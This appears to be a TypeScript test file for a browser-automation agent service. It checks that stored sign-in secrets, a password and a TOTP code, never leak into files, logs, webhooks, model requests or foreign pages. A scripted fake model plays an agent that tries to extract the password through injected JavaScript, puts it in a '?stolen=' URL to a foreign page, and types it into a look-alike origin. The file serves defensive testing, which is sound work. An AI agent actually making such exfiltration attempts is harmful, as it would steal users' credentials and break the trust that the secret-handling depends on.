import { readdirSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import * as assert from 'uvu/assert'
import { runBrowser } from '../../src/browser/headless.ts'
import { codeAt } from '../../src/wire/totp.ts'
import { suiteWithBrowser } from '../cli/with-browser.ts'
import { base32 } from '../support/base32.ts'
import { eventually } from '../support/eventually.ts'
import type { Plan, Seen } from '../support/model-endpoint.ts'
import { finished } from '../support/service/jobs.ts'
import { openJobModel } from '../support/service/model.ts'
import { openService } from '../support/service.ts'
import { openSignInPages } from '../support/sign-in.ts'
import { closeReceivers, receiver } from '../webhooks/receiver.ts'

const TASK_MS_MAX = 90_000
const PASSWORD = 'Tr0ub4dor &3 "ü"'
const SEED = base32('a seed of 20 bytes ..')
// With 8 digits a file has none of the codes by chance.
const TOTP = `otpauth://totp/Shop:ada?secret=${SEED}&digits=8&period=30`

const test = suiteWithBrowser('a task that signs in with a password and a code')

/** The ref of the newest line that has the words. */
const refOf = (seen: Seen, words: string): string => {
  const text = JSON.stringify(seen.body.messages).replaceAll('\\n', '\n').replaceAll('\\"', '"')
  const line = text.split('\n').findLast((each) => each.includes(words) && /\[(?:f\d+)?e\d+\]/.test(each))
  return /\[((?:f\d+)?e\d+)\]/.exec(line ?? '')?.[1] ?? 'none'
}
const fill = (field: string, value: string) => (seen: Seen) => ({
  tool: 'form_input',
  input: { ref: refOf(seen, field), value },
})
const press = (button: string) => (seen: Seen) => ({
  tool: 'computer',
  input: { action: 'left_click', ref: refOf(seen, button) },
})
const navigate = (url: string) => () => ({ tool: 'navigate', input: { url } })
const call = (tool: string, input: object) => () => ({ tool, input })
const script = (text: string) => call('javascript_tool', { action: 'javascript_exec', text })

type Step = (seen: Seen) => { tool: string; input: object }

test('[X1] [X3] [X4] [X6] [X8] no file, log, event, step, webhook or model request has them; a foreign page gets nothing; kill -9 in the middle', async () => {
  const pages = await openSignInPages()
  const hooks = await receiver()
  const { endpoint, env } = await openJobModel()
  const service = await openService({ env: { ...env, LOG_LEVEL: 'debug', VERIFY: 'off' } })
  const { api } = service
  const { pairing_token: pairingToken } = (await api.post('/v1/browser-sessions/pair')).json
  const lines: string[] = []
  const browser = await runBrowser({ serviceUrl: service.url, pairingToken, log: (line) => void lines.push(line) })
  pages.accepts.password = PASSWORD
  pages.accepts.code = (given) => [Date.now(), Date.now() - 30_000].some((at) => codeAt(TOTP, at).code === given)
  const P = '{{secret:password}}'
  const steps: readonly Step[] = [
    navigate(pages.own),
    call('read_page', {}),
    fill('User', 'ada'),
    fill('Password', P),
    press('"Sign in"'),
    (seen) => ({
      tool: 'computer',
      input: { action: 'type', ref: refOf(seen, 'textbox "Code"'), text: '{{secret:code}}' },
    }),
    press('"Verify"'),
    call('get_page_text', {}),
    // What a page makes of the value, and what a model may try to get at it.
    navigate(`${pages.own}/shows`),
    fill('Password', P),
    call('get_page_text', {}),
    script(
      `[...new TextEncoder().encode(document.querySelector('input').value)].map((byte) => byte.toString(16).padStart(2, '0')).join('')`,
    ),
    script(
      `document.title = 'title ' + document.querySelector('input').value; JSON.stringify({ value: document.querySelector('input').value })`,
    ),
    script(`throw new Error('it is ' + document.querySelector('input').value)`),
    call('tabs', { action: 'list' }),
    call('computer', { action: 'screenshot' }),
    call('navigate', { url: `${pages.foreign}/?stolen=${P}` }),
    // The look-alike of another origin, and its frame in an allowed page.
    navigate(pages.foreign),
    fill('Password', P),
    (seen) => ({ tool: 'computer', input: { action: 'type', ref: refOf(seen, 'Password'), text: P } }),
    navigate(`${pages.own}/around`),
    fill('Password', P),
    fill('Password', '{{secret:pasword}}'),
  ]
  const answer = `Signed in. The page said: you typed ${PASSWORD}.`
  endpoint.plan((seen): Plan => {
    const messages = seen.body.messages as unknown as { role: string }[]
    const step = steps[messages.filter(({ role }) => role === 'assistant').length]
    if (!step) return { calls: [{ tool: 'finish', input: { success: true, answer } }] }
    return { text: 'Next.', calls: [step(seen)] as never }
  })
  try {
    await api.post('/v1/webhook_endpoints', { url: `http://127.0.0.1:${hooks.port}/signed` })
    const body = {
      // It goes to the foreign page: what keeps the secrets from it is their own domains.
      allowed_domains: ['*'],
      webhook_url: `http://127.0.0.1:${hooks.port}/own`,
      secrets: [
        { name: 'password', value: PASSWORD, domains: [pages.domain], description: 'of ada' },
        { name: 'code', totp: TOTP, domains: [pages.domain] },
      ],
    }
    const key = { 'idempotency-key': 'sign-in-1' }
    const start = { task: 'Sign in', browser_session_id: browser.sessionId, ...body }
    const { status, json } = await api.post('/v1/tasks', start, key)
    assert.is(status, 201, JSON.stringify(json))
    const typing = () => pages.told.own.filter((each) => each.startsWith('/told input') && /input \d{8} /.test(each))
    await eventually(() => typing().length > 0, 'the code is typed', TASK_MS_MAX)
    await service.kill()
    service.spawn()
    await service.answers()
    const task = await finished(api, json.id, TASK_MS_MAX)
    const read = (path: string) => api.get(path).then(({ raw }) => String(raw))
    const shown = await Promise.all([
      read(`/v1/tasks/${task.id}`),
      read('/v1/tasks'),
      read(`/v1/tasks/${task.id}/steps`),
      read(`/v1/tasks/${task.id}/events?limit=1000`),
      read('/v1/events?limit=1000'),
    ])
    await eventually(() => hooks.seen.length > 2, 'the webhooks')
    assert.is((await api.post('/v1/tasks', start, key)).headers['idempotent-replayed'], 'true')
    assert.is(task.status, 'complete', `${task.answer}\n${shown[0]}`)
    assert.match(task.answer ?? '', 'you typed {{secret:password}}')
    await service.stop()

    // It did what it was for: signed in, in spite of the crash, and the code was typed once.
    const [whole = ''] = shown
    assert.match(whole, 'Welcome, Ada')
    const posted = pages.told.own.filter((each) => each.startsWith('/code code='))
    assert.is(posted.length, 1, posted.join('\n'))
    const code = /code=(\d{8})$/.exec(posted[0] ?? '')?.[1] ?? ''
    assert.match(code, /^\d{8}$/)
    assert.is(typing().length, 1)
    assert.match(whole, 'Welcome, Ada')
    // Nobody else got it.
    assert.equal(pages.told.foreign, [])
    assert.is(whole.split('Nothing was typed: the secret password is only for').length - 1, 3)
    assert.match(whole, /this task has no secret/)

    const files = readdirSync(service.dataDir, { recursive: true, encoding: 'utf8' })
      .map((name) => join(service.dataDir, name))
      .filter((path) => statSync(path).isFile())
    assert.ok(files.length > 1)
    const places: Readonly<Record<string, string>> = {
      ...Object.fromEntries(files.map((path) => [path, readFileSync(path, 'latin1')])),
      log: service.output,
      'log of the browser': lines.join('\n'),
      routes: shown.join('\n'),
      webhooks: JSON.stringify(hooks.seen),
      'model requests': JSON.stringify(endpoint.requests.map(({ body: each }) => each)),
    }
    for (const [place, text] of Object.entries(places))
      for (const [form, value] of Object.entries({ ...formsOf('password', PASSWORD), ...formsOf('seed', SEED), code }))
        assert.not.ok(
          text.includes(value),
          `${form} is in ${place}: ${text.slice(Math.max(0, text.indexOf(value) - 200), text.indexOf(value) + 50)}`,
        )
    // The search finds what is there.
    assert.ok(files.some((path) => places[path]?.includes('{{secret:password}}')))
  } finally {
    await browser.close()
    await service.kill()
    await endpoint.close()
    await closeReceivers()
    await pages.close()
  }
})

/** As it is, also in UTF-16 as stores write it, URL-encoded, in JSON, in base64 and in hexadecimal digits. */
function formsOf(name: string, value: string): Record<string, string> {
  const bytes = Buffer.from(value)
  return {
    [name]: bytes.toString('latin1'),
    [`${name}, decoded`]: value,
    [`${name} in UTF-16`]: Buffer.from(value, 'utf16le').toString('latin1'),
    [`${name}, its beginning`]: value.slice(0, 9),
    [`${name} in a URL`]: encodeURIComponent(value),
    [`${name} in a form`]: new URLSearchParams({ a: value }).toString().slice(2),
    [`${name} in base64`]: bytes.toString('base64').replace(/=+$/, ''),
    [`${name} in base64 of a URL`]: bytes.toString('base64url'),
    [`${name} in hexadecimal digits`]: bytes.toString('hex'),
  }
}

await test.run()
